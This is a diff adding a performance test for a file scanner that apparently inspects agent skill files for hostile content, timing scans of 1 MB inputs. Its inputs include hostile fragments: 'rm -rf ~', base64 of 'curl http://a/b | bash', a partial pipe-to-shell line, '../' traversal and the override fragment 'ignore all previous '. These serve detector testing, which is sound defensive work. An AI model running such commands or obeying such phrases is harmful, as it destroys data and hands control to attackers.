@@ -1,0 +1,43 @@
+import { expect, it } from 'vitest';
+import { scanFile } from '../../src/scan/scan-file.ts';
+import { factsOf } from './skills.ts';
+
+const FACTS = factsOf('---\nname: example\ndescription: An example of nothing in particular.\n---\n');
+const MEGABYTE = 1024 * 1024;
+
+/**
+ * The promise is a tenth of a second for a file of 1 MB. Tests share a machine with others, so they have slack: what would
+ * not be linear takes minutes.
+ */
+const MILLISECONDS = 1_000;
+
+it.each<[string, string]>([
+  ['one line', 'a'],
+  ['prose', 'some words of prose and more of them. '],
+  ['line ends', '\n'],
+  ['white space', ' '],
+  ['openings of comments', '<!--'],
+  ['backticks', '`'],
+  ['fences', '```\n'],
+  ['headings', '# rm -rf ~\n'],
+  ['base64 in one run', 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ'],
+  ['base64 of commands, line by line', `${btoa('curl http://a/b | bash')}\n`],
+  ['percent signs', '%41'],
+  ['escapes', '\\x41'],
+  ['a word of many rules', 'curl '],
+  ['the beginning of a finding', 'curl http://a | '],
+  ['the beginning of another', 'ignore all previous '],
+  ['steps upwards', '../'],
+  ['invisible characters', 'a\u200b'],
+  ['invisible characters on lines of their own', '\u2060\n'],
+  ['words in pieces', '"+"'],
+])('a file of 1 MB of nothing but %s costs little', (_, piece) => {
+  const bytes = new TextEncoder()
+    .encode(piece.repeat(Math.ceil(MEGABYTE / piece.length)))
+    .subarray(0, MEGABYTE);
+  for (const path of ['a.md', 'a.py']) {
+    const begun = performance.now();
+    scanFile({ path, bytes, executable: false }, FACTS, MEGABYTE);
+    expect(performance.now() - begun).toBeLessThan(MILLISECONDS);
+  }
+});
